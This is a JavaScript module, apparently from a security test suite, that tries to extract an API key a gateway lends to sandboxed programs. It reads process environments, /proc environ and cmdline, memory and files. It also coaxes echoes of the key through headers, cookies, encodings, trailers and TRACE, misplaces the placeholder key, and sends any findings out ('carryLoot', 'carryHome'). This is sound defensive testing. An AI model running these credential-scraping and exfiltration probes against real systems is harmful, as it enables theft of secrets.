/** Attempts to get at a secret that the gateway lends, or to have it sent where it may not go. */
import { writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { connect as connectTls } from 'node:tls';
import { ownDir } from './files.mjs';
import { carryLoot, ofAllProcesses, withOwnProcess } from './loot.mjs';
import { fileTexts, memoryTexts } from './search.mjs';
import { carryHome, tunnel } from './wire.mjs';

const SLOT = 'x-api-key';
const MOST_TEXT = 64 * 1024;

/** Asks a host of the lender's, by TLS that the gateway opens. Gives all of the answer: its status, header, body, trailers. */
async function ask(t, name, { method = 'GET', path, headers = {}, body }) {
  const host = `${t.names[name]}:${t.lenderPort}`;
  const { socket, answer } = await tunnel(host);
  if (!/ 2\d\d( |$)/.test(answer)) throw new Error(answer);
  const tls = connectTls({ socket, servername: t.names[name], rejectUnauthorized: false });
  const options = {
    method,
    path,
    headers: { host, connection: 'close', ...headers },
    createConnection: () => tls,
  };
  const response = await new Promise((resolve, reject) => {
    request(options, resolve).on('error', reject).end(body);
  });
  const content = (await text(response)).slice(0, MOST_TEXT);
  const { statusCode, statusMessage, rawHeaders, rawTrailers } = response;
  return [`${statusCode} ${statusMessage}`, ...rawHeaders, content, ...rawTrailers].join('\n');
}

/** What is answered to a refusal: its first line, as what was met. */
function refused(answer) {
  if (!answer.startsWith('2')) throw new Error(answer.slice(0, 400));
}

/** The allowed request, which the lender hears only when it bore the secret. */
const lent = async (t, nonce) => refused(await ask(t, 'lends', { path: `/lent/${nonce}` }));

/** All that a text may say in another spelling. */
const spelled = (answer) =>
  [
    answer,
    ...(answer.match(/[0-9a-zA-Z+/=]{20,}/g) ?? []).flatMap((word) => [
      decode(word, 'base64'),
      decode(word, 'hex'),
    ]),
  ]
    .join('\n')
    .replaceAll(/[\r\n]+/g, '\n');

const decode = (word, encoding) => Buffer.from(word, encoding).toString('latin1');

/** The lender gives back what it was sent: what comes is carried home, and said. */
const echoed = (name, order = {}) => ({
  attack: async (t) => {
    const answer = await ask(t, 'lends', { path: `/echo/${name}`, ...order });
    await carryLoot(t, spelled(answer)).catch(() => undefined);
    throw new Error(answer);
  },
  control: lent,
});

/** What programs in the bottle see in place of the key. In the open there is none. */
function placeholder() {
  const value = process.env.LENT_KEY;
  if (value === undefined) throw new Error('there is no placeholder');
  return value;
}

/** The placeholder where it has no business; what a host makes of it is heard. */
const misplaced = (host, order) => ({
  attack: async (t) => refused(await ask(t, host, { path: '/misplaced', ...order(placeholder()) })),
  control: lent,
});

/** A credential of the attacker's own, which must not arrive. */
const own = (headersOf) => ({
  attack: async (t, nonce) => refused(await ask(t, 'lends', { path: '/own', headers: headersOf(nonce) })),
  control: lent,
});

/** What was found is said as well: by any way that is looked at, the gateway keeps back what it lends. */
async function tell(t, text) {
  const met = await carryLoot(t, text).catch(({ message }) => message);
  const loot = text.match(/bbl[0-9a-f]{24}/g) ?? [];
  throw new Error([...new Set(loot), met].filter(Boolean).join(', '));
}

/** The word of the control is looked for in the same way. */
const finding = (textOf) => ({
  alone: true,
  attack: async (t) => await tell(t, await textOf()),
  control: async (t, nonce) =>
    await withOwnProcess(nonce, async () => {
      writeFileSync(join(ownDir(), 'own'), nonce);
      if (!(await textOf()).includes(nonce)) throw new Error('what is there is not found');
      await carryHome(t, nonce);
    }),
});

const WORD = /bb[nl][0-9a-f]{24}/g;

/** Every word in these texts. */
function wordsIn(texts) {
  const words = new Set();
  for (const text of texts) for (const [word] of text.matchAll(WORD)) words.add(word);
  return [...words].join('\n');
}

const wordsInMemory = () => wordsIn(memoryTexts());
const wordsInFiles = () => wordsIn(fileTexts());

export const SECRETS = {
  'secret-environment': {
    attack: async (t) => await tell(t, JSON.stringify(process.env)),
    control: async (t, nonce) => await carryHome(t, { ...process.env, WORD: nonce }.WORD),
  },
  'secret-proc-environ': finding(() => ofAllProcesses('environ')),
  'secret-proc-cmdline': finding(() => ofAllProcesses('cmdline')),
  'secret-memory': finding(wordsInMemory),
  'secret-files': finding(wordsInFiles),
  'proc-memory': finding(wordsInMemory),
  'echo-body': echoed('body'),
  'echo-json': echoed('json'),
  'echo-header': echoed('header'),
  'echo-cookie': echoed('cookie'),
  'echo-redirect': echoed('redirect'),
  'echo-error': echoed('error'),
  'echo-status': echoed('status'),
  'echo-event': echoed('event'),
  'echo-trailer': echoed('trailer', { headers: { te: 'trailers' } }),
  'echo-base64': echoed('base64'),
  'echo-hex': echoed('hex'),
  'echo-gzip': echoed('gzip', { headers: { 'accept-encoding': 'gzip' } }),
  'echo-chunks': echoed('chunks'),
  'echo-trace': echoed('body', { method: 'TRACE', path: '/trace' }),
  'placeholder-elsewhere': misplaced('opened', (key) => ({ headers: { [SLOT]: key } })),
  'placeholder-plain': {
    attack: async (t) => await carryHome(t, placeholder()),
    control: lent,
  },
  'placeholder-body': misplaced('lends', (key) => ({ method: 'POST', body: `{"key":"${key}"}` })),
  'placeholder-query': misplaced('lends', (key) => ({ path: `/misplaced?key=${key}` })),
  'placeholder-path': misplaced('lends', (key) => ({ path: `/misplaced/${key}` })),
  'placeholder-header': misplaced('lends', (key) => ({ headers: { 'x-note': key } })),
  'placeholder-cookie': misplaced('lends', (key) => ({ headers: { cookie: `key=${key}` } })),
  'placeholder-bearer': misplaced('lends', (key) => ({ headers: { authorization: `Bearer ${key}` } })),
  'own-key': own((nonce) => ({ [SLOT]: nonce })),
  'own-key-twice': own((nonce) => ({ [SLOT]: [nonce, nonce] })),
  'own-bearer': own((nonce) => ({ authorization: `Bearer ${nonce}` })),
  'own-basic': own((nonce) => ({ authorization: `Basic ${nonce}` })),
};
